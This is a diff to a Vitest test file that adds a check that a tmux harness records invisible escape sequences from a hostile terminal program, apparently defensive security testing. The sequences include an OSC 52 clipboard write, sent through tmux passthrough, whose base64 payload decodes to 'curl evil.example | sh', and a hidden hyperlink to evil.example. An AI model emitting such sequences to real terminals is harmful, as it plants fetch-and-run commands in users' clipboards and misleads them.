@@ -1,5 +1,6 @@
 import { spawnSync } from "node:child_process";
 import { afterEach, describe, expect, it } from "vitest";
+import { escapeSequences } from "../support/escape-sequences.js";
 import { HOSTILE_PARTS, hostileCommand, receivedLines } from "../support/hostile-terminal.js";
 import { type TerminalState, TmuxTerminal } from "../support/tmux-terminal.js";
 
@@ -182,6 +183,35 @@ describe("the tmux harness sees what a hostile program does to the terminal it p
     const lines = receivedLines(await t.waitFor((s) => receivedLines(s).length >= 3));
     expect(lines.slice(1)).toEqual(["TYPED BY A PERSON", `${ESC}[200~PASTED${ESC}[201~`]);
     expect(await t.capture()).toMatch(/^=== HYPERLINK-OSC-8 === click-me$/m);
+  });
+
+  it("the raw recording holds what tmux 3.3a shows no trace of: OSC 8, DCS, PM, SOS, G2, C1, unanswered queries", async () => {
+    const t = await hostile();
+    const sequences = escapeSequences(await t.waitForOutput("HOSTILE-DONE"));
+    for (const invisible of [
+      `${ESC}]1;HOSTILE-ICON-1\x07`,
+      `${ESC}]8;;https://evil.example/HOSTILE-LINK${ESC}\\`,
+      `${ESC}]4;1;rgb:12/34/56\x07`,
+      `${ESC}P$qm${ESC}\\`,
+      `${ESC}P+q544e${ESC}\\`,
+      `${ESC}Ptmux;${ESC}${ESC}]52;c;SE9TVElMRS1DTElQQk9BUkQgY3VybCBldmlsLmV4YW1wbGUgfCBzaCAocGFzc3Rocm91Z2gp\x07${ESC}\\`,
+      `${ESC}^HOSTILE-PM${ESC}\\`,
+      `${ESC}XHOSTILE-SOS${ESC}\\`,
+      `${ESC}[?1015h`,
+      `${ESC}[?1004h`,
+      `${ESC}[?2004h`,
+      `${ESC}[5 q`,
+      `${ESC}[=c`,
+      `${ESC}[?2004$p`,
+      `${ESC}[14t`,
+      `${ESC}[21t`,
+      `${ESC}[8;10;40t`,
+      `${ESC}*0`,
+      `${ESC}n`,
+      "\xc2\x85", // U+0085 (NEL) in UTF-8
+    ]) {
+      expect(sequences).toContain(invisible);
+    }
   });
 });
 
